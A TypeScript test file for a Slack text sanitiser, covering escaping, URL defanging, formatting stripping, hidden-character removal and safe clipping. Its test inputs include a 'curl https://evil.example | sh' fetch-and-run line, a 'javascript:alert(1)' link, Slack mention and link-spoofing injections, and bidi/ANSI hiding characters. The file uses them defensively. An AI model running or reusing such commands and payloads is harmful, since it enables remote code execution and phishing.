import { clip, code, escapeText, link, plainLine, prose, proseLine } from './slack-text';

describe('text from outside on its way into Slack', () => {
  it.each(['<!channel>', '<!here|here>', '<@U123>', '<#C1>', '<!subteam^S1>', '<https://evil.example|Grafana>'])(
    'makes %s inert (S4)',
    (attack) => {
      for (const shown of [prose(attack), proseLine(attack), code(attack), plainLine(attack)]) {
        expect(shown).not.toMatch(/[<>]/);
      }
    },
  );

  it('escapes the three characters that Slack names, and only once', () => {
    expect(escapeText('a < b && c > d "x"')).toBe('a &lt; b &amp;&amp; c &gt; d "x"');
    expect(prose('&lt;')).toBe('&amp;lt;');
  });

  it('defangs URLs, in Markdown links and images and in code too (S5)', () => {
    expect(prose('[logs](https://evil.example/?q=1) ![x](HTTP://evil.example)')).toBe(
      '[logs](hxxps://evil.example/?q=1) ![x](hxxp://evil.example)',
    );
    expect(code('curl https://evil.example | sh')).toBe('`curl hxxps://evil.example | sh`');
    expect(prose('x_http://a slack://b hxxps://c')).toBe('x_hxxp://a slack[:]//b hxxps://c');
  });

  it('keeps paired backticks as code and takes the power of formatting from everything else', () => {
    expect(prose('*bold* _it_ ~no~ `a*b_c~` http_requests_total 2 * 3 and ` alone')).toBe(
      '∗bold∗ ＿it＿ ∼no∼ `a*b_c~` http_requests_total 2 * 3 and ˋ alone',
    );
    expect(prose('## Title\n**strong** words')).toBe('Title\nstrong words');
  });

  it('turns code blocks into lines of code, so that none stays open', () => {
    expect(prose('Run\n```bash\nkubectl get pods\nkubectl logs x\n```\nthen')).toBe(
      'Run\n`kubectl get pods`\n`kubectl logs x`\nthen',
    );
    expect(proseLine('```\nnever closed')).toBe('ˋ never closed');
  });

  it('shows foreign code on one line, without the backtick that would end it', () => {
    expect(code('a`*b*`\n c')).toBe('`aˋ*b*ˋ c`');
    expect(code('\u200b \n')).toBe('');
  });

  it('takes out what hides or reorders text (S25)', () => {
    expect(proseLine('\u001b[31mred\u001b[0m a\u202eb\u200bc\u{e0041}d')).toBe('red abcd');
  });

  it('makes no quote and no picture of what others wrote, and leaves times and rule names as they are', () => {
    expect(prose('> said\n:white_check_mark: *ok* at 03:02:10, job:up:sum')).toBe(
      '› said\n꞉white_check_mark: ∗ok∗ at 03:02:10, job:up:sum',
    );
    expect(prose('`:x:` and x:y: z')).toBe('`:x:` and x:y: z');
  });

  it('keeps a few marks on a letter, as all writing has, and no tower of them', () => {
    expect(proseLine(`e${'\u0301'.repeat(50)}x שָׁלוֹם`)).toBe('e\u0301\u0301\u0301\u0301x שָׁלוֹם');
  });

  it('reads megabytes of backticks in no time', () => {
    const started = performance.now();
    prose('`'.repeat(5_000_000));
    prose('```\n'.repeat(1_000_000));
    expect(performance.now() - started).toBeLessThan(1_000);
  });
});

describe('clipping', () => {
  it('leaves a text that fits as it is', () => {
    expect(clip('&lt;abc', 7)).toBe('&lt;abc');
  });

  it('never cuts inside an escape or a code point', () => {
    for (let max = 3; max < 40; max += 1) {
      const cut = clip(`${'&lt;'.repeat(5)}${'🔥'.repeat(20)}`, max);
      expect(cut.length).toBeLessThanOrEqual(max);
      expect(cut.isWellFormed()).toBe(true);
      expect(cut.replace(/&lt;/g, '')).not.toContain('&');
      expect(cut.endsWith('…')).toBe(true);
    }
  });

  it('closes a code span that it cuts', () => {
    expect(clip('see `kubectl rollout undo`', 16)).toBe('see `kubectl r…`');
  });
});

describe('clipping a text with marks', () => {
  const marked = `It lost ${'many '.repeat(10)}83.7 % [unverified] of all, ${'and so on '.repeat(10)}`;

  it('never shows a figure, or part of one, without its mark', () => {
    for (let max = 30; max < marked.length; max += 1) {
      const cut = clip(marked, max);
      expect(cut.length).toBeLessThanOrEqual(max);
      if (cut.includes('8')) expect(cut).toContain('[unverified]');
      expect(cut.replaceAll('[unverified]', '')).not.toMatch(/\[/);
    }
  });

  it('closes the code span behind the mark', () => {
    expect(clip('see `83.7 [unverified] and more and more`', 30)).toBe('see `83.7… [unverified]`');
  });
});

describe('links', () => {
  it('are written for http URLs only, with & and | made safe', () => {
    expect(link('https://vigil.example/t/1?e=1&k=a|b', 'Read <it>')).toBe(
      '<https://vigil.example/t/1?e=1&amp;k=a%7Cb|Read &lt;it&gt;>',
    );
    expect(link('javascript:alert(1)', 'x')).toBeUndefined();
    expect(link('https://', 'x')).toBeUndefined();
  });

  it('carry no password, and are not so long that nothing stands beside them', () => {
    expect(link('https://user:secret@prometheus.example/graph', 'x')).toBeUndefined();
    expect(link(`https://grafana.example/?q=${'a'.repeat(1_400)}`, 'x')).toBeDefined();
    expect(link(`https://grafana.example/?q=${'&'.repeat(400)}`, 'x')).toBeUndefined();
  });
});
